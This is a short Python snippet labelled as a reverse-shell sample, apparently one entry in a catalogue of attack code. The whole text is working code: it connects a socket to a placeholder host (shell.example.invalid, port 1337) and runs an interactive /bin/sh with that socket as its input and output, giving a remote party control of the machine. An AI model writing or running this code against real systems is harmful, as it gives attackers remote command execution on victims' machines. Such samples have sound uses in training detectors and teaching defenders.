# family: reverse-shell
# the socket passed as the shell's stdin/stdout/stderr
import socket
import subprocess

sock = socket.socket()
sock.connect(("shell.example.invalid", 1337))
subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno(), stderr=sock.fileno())
